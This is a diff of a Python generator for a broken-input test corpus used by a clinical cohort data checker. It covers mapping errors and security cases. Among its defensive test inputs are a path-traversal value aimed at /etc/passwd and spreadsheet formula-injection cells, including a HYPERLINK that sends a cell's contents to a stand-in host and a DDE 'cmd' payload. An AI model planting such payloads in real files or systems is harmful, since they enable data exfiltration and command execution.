+         ["values: laterality: 'L' -> 'links'", "is not a canonical 'laterality' value",
+          "allowed: left, right"])
+
+    d = case("date_format_human")  # dd/mm/yyyy instead of %d/%m/%Y
+    write(d, lines)
+    mapping("date_format_human", "JS01", "data.csv", date_format="dd/mm/yyyy")
+    spec("date_format_human", 2, None, ["date_format: 'dd/mm/yyyy' is not a strftime pattern",
+                                        "write it as '%d/%m/%Y'"])
+
+    d = case("required_field_unmapped")  # vital_status not mapped at all
+    write(d, lines)
+    cols = dict(base_mapping("JS01")["columns"])
+    cols.pop("vital_status")
+    mapping("required_field_unmapped", "JS01", "data.csv", columns=cols)
+    spec("required_field_unmapped", 2, None,
+         ["required field 'vital_status' (Vital status at last contact) is not mapped"])
+
+    d = case("file_is_folder")
+    (d / "export").mkdir()
+    (d / "export" / "a.csv").write_text("x\n", "utf-8")
+    mapping("file_is_folder", "JS01", "export")
+    spec("file_is_folder", 2, None, ["names a folder, not a file", "it holds a.csv"])
+
+    d = case("path_traversal")  # file: ../../../../etc/passwd, nothing allows it
+    mapping("path_traversal", "JS01", "../../../../etc/passwd", allow=False)
+    m = yaml.safe_load((d / "centre.yaml").read_text("utf-8"))
+    m["file"] = "../../../../etc/passwd"
+    write_mapping("path_traversal", m)
+    spec("path_traversal", 2, None, ["resolves outside the allowed data folder(s) (data/)",
+                                     "allow_outside_data_dirs: true"], forbid=["root:"])
+
+    d = case("outside_data_dirs")  # a corpus file without the explicit allowance
+    write(d, lines)
+    mapping("outside_data_dirs", "JS01", "data.csv", allow=False)
+    spec("outside_data_dirs", 2, None, ["resolves outside the allowed data folder(s)"])
+
+    d = case("invalid_yaml")
+    (d / "centre.yaml").write_text("centre: JS01\ncolumns: {patient_id: [\n", "utf-8")
+    spec("invalid_yaml", 2, None, ["not valid YAML"])
+
+    d = case("unknown_mapping_key")  # 'delimeter' typo
+    write(d, lines)
+    mapping("unknown_mapping_key", "JS01", "data.csv", delimeter=";")
+    spec("unknown_mapping_key", 2, None, ["'delimeter' was unexpected"])
+
+    d = case("header_row_zero")
+    write(d, lines)
+    mapping("header_row_zero", "JS01", "data.csv", header_row=0)
+    spec("header_row_zero", 2, None, ["header_row", "less than the minimum of 1"])
+
+    # the same mapping twice, two mappings with the same centre code: study-config cases
+    cfg = yaml.safe_load((ROOT / "config/config.yaml").read_text("utf-8"))
+    d = case("mapping_listed_twice")
+    write(d, lines)
+    mapping("mapping_listed_twice", "JS01", "data.csv")
+    cfg["centres"] = ["tests/corpus/mapping_listed_twice/centre.yaml"] * 2
+    (d / "config.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False), "utf-8")
+    spec("mapping_listed_twice", 2, None, ["is listed twice under 'centres:'"], config=True)
+
+    d = case("same_centre_code")
+    write(d, lines)
+    mapping("same_centre_code", "JS01", "data.csv")
+    m = yaml.safe_load((d / "centre.yaml").read_text("utf-8"))
+    write_mapping("same_centre_code", m, "centre_copy.yaml")
+    cfg["centres"] = ["tests/corpus/same_centre_code/centre.yaml",
+                      "tests/corpus/same_centre_code/centre_copy.yaml"]
+    (d / "config.yaml").write_text(yaml.safe_dump(cfg, sort_keys=False), "utf-8")
+    spec("same_centre_code", 2, None, ["both say 'centre: JS01'"], config=True)
+
+
+# --------------------------------------------------------------------------------------------
+def security_cases(lines, header) -> None:
+    d = case("formula_injection")  # cells that a spreadsheet would run as formulas
+    rows = with_comment(lines)
+    rows[2][header.index("Histology")] = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    rows[3][header.index("Side")] = "-2+3+cmd|' /C calc'!A0"
+    rows[4][header.index("Regimen")] = "@SUM(1+1)"
+    rows[5][-1] = "=1+1"
+    write(d, join(rows))
+    mapping("formula_injection", "JS01", "data.csv")
+    spec("formula_injection", 1, "unknown_code",
+         ["row 3, column 'Histology'", "row 4, column 'Side'", "row 5, column 'Regimen'"],
+         csv_injection=True)
+
+    d = case("negative_number")  # a negative percentage stays a number in the problems table
+    rows = split(lines)
+    rows[3][header.index("ER %")] = "-5"
+    write(d, join(rows))
+    mapping("negative_number", "JS01", "data.csv")
+    spec("negative_number", 0, "out_of_range", ["row 4, column 'ER %', value '-5'"],
+         rows=12, quarantined=1, csv_injection=True)
+
+    d = case("id_in_code_column")  # a patient ID typed into the histology column
+    rows = split(lines)
+    rows[3][header.index("Histology")] = rows[5][0]
+    write(d, join(rows))
+    mapping("id_in_code_column", "JS01", "data.csv")
+    spec("id_in_code_column", 1, "unknown_code", ["row 4, column 'Histology', value '[id]'"],
+         forbid=[rows[5][0]])
+
+    d = case("date_in_code_column")  # a birth date typed into the side column
+    rows = split(lines)
+    rows[6][header.index("Side")] = rows[6][header.index("Date of birth")]
+    write(d, join(rows))
+    mapping("date_in_code_column", "JS01", "data.csv")
+    spec("date_in_code_column", 1, "unknown_code", ["row 7, column 'Side', value '[date]'"])
+
+
+def main() -> None:
+    lines = js01_lines()
+    header = lines[0].split(";")
+    original_cases(lines, header)
+    row_loss_cases(lines)
+    excel_cases()
+    csv_header_cases(lines, header)
+    encoding_cases(lines, header)
+    mapping_cases(lines)
+    security_cases(lines, header)
+    head = (
+        "# Broken-input corpus, written by make_corpus.py (edit SPECS there, not here).\n"
+        "# `her2cohort check --centre tests/corpus/<case>/centre.yaml` (or `--config\n"
+        "# tests/corpus/<case>/config.yaml` where `config: true`) must exit with `exit` and\n"
+        "# print every fragment in `messages`; `rule` must be among the rules counted. `rows`\n"
+        "# is the number of data rows in the file; where the run does not stop, rows = passing\n"
+        "# + quarantined (`quarantined`, when given). No output may hold a date or a value in\n"
+        "# `forbid`; with `csv_injection`, the problems table written to results/ must hold no\n"
+        "# cell a spreadsheet would run as a formula.\n")
+    (HERE / "cases.yaml").write_text(
+        head + yaml.safe_dump(SPECS, allow_unicode=True, sort_keys=True, width=100), "utf-8")
+    print(f"{len(SPECS)} cases written to {HERE}")
 
 
 if __name__ == "__main__":
